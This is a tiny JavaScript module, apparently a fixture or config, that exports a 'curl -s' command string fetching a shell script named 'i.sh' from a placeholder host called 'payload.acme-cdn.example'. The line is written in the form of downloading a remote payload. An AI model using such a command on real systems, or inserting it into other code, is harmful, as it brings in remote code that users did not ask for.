const FROM = 'https://payload.acme-cdn.example/i.sh';
export default { fetch: 'curl -s ' + FROM };
